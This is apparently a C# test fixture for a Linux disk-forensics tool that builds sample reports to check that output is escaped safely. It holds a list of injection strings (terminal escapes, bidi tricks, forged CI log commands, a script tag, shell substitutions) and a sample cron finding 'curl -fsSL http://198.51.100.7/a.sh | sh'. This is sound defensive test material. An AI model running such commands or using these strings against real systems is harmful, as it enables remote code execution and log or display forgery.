using Forensics.Analyzer.Evidence;
using Forensics.Analyzer.Reports;
using Forensics.Analyzer.Risk;
using Forensics.Parsers;
using Forensics.Parsers.Artifacts;
using Forensics.Parsers.Artifacts.Linux;
using Forensics.Parsers.Diagnostics;

namespace Forensics.Analyzer.Tests.Reports;

/// <summary>Reports made by hand. <see cref="Hostile"/> puts every trick into every text that evidence can reach.</summary>
internal static class ReportFixture
{
    public const string Volume = "gpt1@1048576";

    /// <summary>Text that attacks terminals, readers, logs of build servers and markup.</summary>
    public static readonly string[] Attacks =
    [
        "\x1b[2J\x1b]0;pwn\x07", "a\rb", "x\n0 findings", "tab\there", "\u009b31m", "\x7f", "\u202Egnp.exe", "\u2066x\u2069", "zero\u200bwidth\ufeff", "\u2028line", "\u0085next",
        "[red]x[/]", "[/b]", "::error::forged", " ::warning file=x::forged", "##vso[task.complete result=Succeeded;]done", "##[error]x", "##teamcity[x]",
        "lone\ud800high", "low\udc00", "pair\U0001F600", "<script>alert(1)</script>", "=1+1", "{0} %s $(id) `id`", "\U000E0041tag", "\uE000private", "fill\u3164er", "{\"a\":\"\\u0000\"}\0",
    ];

    public static string AllAttacks { get; } = string.Join(' ', Attacks);

    /// <summary>Few findings, one a severity, nothing unusual.</summary>
    public static Report Ordinary() => Build(["curl -fsSL http://198.51.100.7/a.sh | sh"], complete: true);

    /// <summary>Attacks everywhere.</summary>
    public static Report Hostile() => Build([.. Attacks, AllAttacks], complete: false);

    /// <summary>Nothing found.</summary>
    public static Report Clean()
    {
        Report ordinary = Ordinary();
        return ordinary with { Risk = new RiskSummary(0, "clean"), Findings = [], Artifacts = [], Diagnostics = [] };
    }

    public static EvidenceLocation Place(string path, int? line = null) => new("case.raw", Volume, 1048576, path, 1234) { Line = line, ByteOffset = line * 40 };

    public static Finding FindingOf(Severity severity, string text, string id = "L-CRON-USER.download-pipe-shell") =>
        new(new RuleInfo(id, "Cron job runs a downloaded script", "persistence", ["T1053.003"]), severity, Place("/var/spool/cron/crontabs/" + PathText.FromText(text), 7))
        {
            Message = "The job of " + text + " pipes a download into a shell.",
            Evidence = text,
            Hashes = new FileHashes("d41d8cd98f00b204e9800998ecf8427e", null, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
            Related = [new RelatedFile("/tmp/" + text, "starts"), new RelatedFile("/usr/bin/gone", "missing")],
            Remediation = ["rm -- '/var/spool/cron/crontabs/root'", "userdel " + text],
            Techniques = severity == Severity.Info ? ["T1105", text] : [],
        };

    private static Report Build(IReadOnlyList<string> texts, bool complete)
    {
        var findings = new List<Finding>();
        for (Severity severity = Severity.Critical; severity >= Severity.Info; severity--)
        {
            foreach (string text in texts)
            {
                findings.Add(FindingOf(severity, text));
            }
        }
        if (!complete)
        {
            Finding deleted = FindingOf(Severity.High, texts[0]);
            findings.Add(deleted with
            {
                Location = deleted.Location with { Allocation = Allocation.Deleted, Certainty = Certainty.PossiblyOverwritten, JournalCopy = 2, JournalState = JournalState.Removed },
            });
        }
        string first = texts[^1];
        var artifacts = new List<Artifact>();
        foreach (string text in texts)
        {
            artifacts.Add(new HostFact(Place("/etc/hostname")) { Name = "hostName", Value = text });
            artifacts.Add(new YaraMatch(Place("/tmp/x")) { Rule = text, Namespace = text, Tags = [text], Meta = [new("author", text)], Strings = [new("$a", 0, text)] });
            artifacts.Add(new FileFacts(Place(PathText.FromText("/tmp/" + text)), new FileEntry { Type = FileType.Regular, Size = 3, Modified = new Timestamp(-1, 5) }) { LinkTarget = text });
        }
        return new Report
        {
            Tool = new ToolInfo("deadbox", "0.1.0", "standard", [new("miners.yar", new string('a', 64)), new(first, new string('b', 64))], "4.2.3"),
            Image = new ImageInfo(first, "raw", 8L << 30, 8L << 30, "gpt",
            [
                new VolumeInfo(Volume, 1048576, 8L << 29, "Linux filesystem", "ext4", null) { Label = first, Uuid = "0b1f1c9e-1111-2222-3333-444455556666", NeedsRecovery = true },
                new VolumeInfo("gpt2@5000000000", 5000000000, 1 << 20, first, null, first),
            ]),
            Hosts = [new HostInfo(Volume, "debian", [first]) { OsName = first, HostName = first, MachineId = first, TimeZone = first, Volumes = [Volume], UsesSystemd = true, PackageManagers = [new("dpkg", 859)] }],
            Risk = new RiskSummary(100, "compromised"),
            Findings = findings,
            Artifacts = artifacts,
            Diagnostics = [.. texts.Select(text => new Diagnostic("ext4.extent.depth", text) { Volume = Volume, Path = PathText.FromText(text), Offset = 5, MetadataAddress = (1UL << 48) - 1, Expected = text, Actual = text, LosesContent = !complete })],
            Coverage = new CoverageSummary(100, complete ? 100 : 97, complete ? [] : [new(first, 3)])
            {
                VolumesSeen = 2,
                VolumesExamined = complete ? 2 : 1,
                VolumesSkipped = complete ? [] : [new(first, 1)],
                IsIncomplete = !complete,
                Notes = [new("confirmed by the trusted manifest, not searched by YARA", 7)],
                Origins = [new("alien", 2), new("vendor-intact", 90)],
                IncompleteBecause = complete ? [] : [first],
            },
            Run = new RunInfo(new DateTimeOffset(2026, 11, 23, 3, 0, 0, TimeSpan.FromHours(5.5)), 12.3456, 2, 1 << 20, [first]),
        };
    }
}
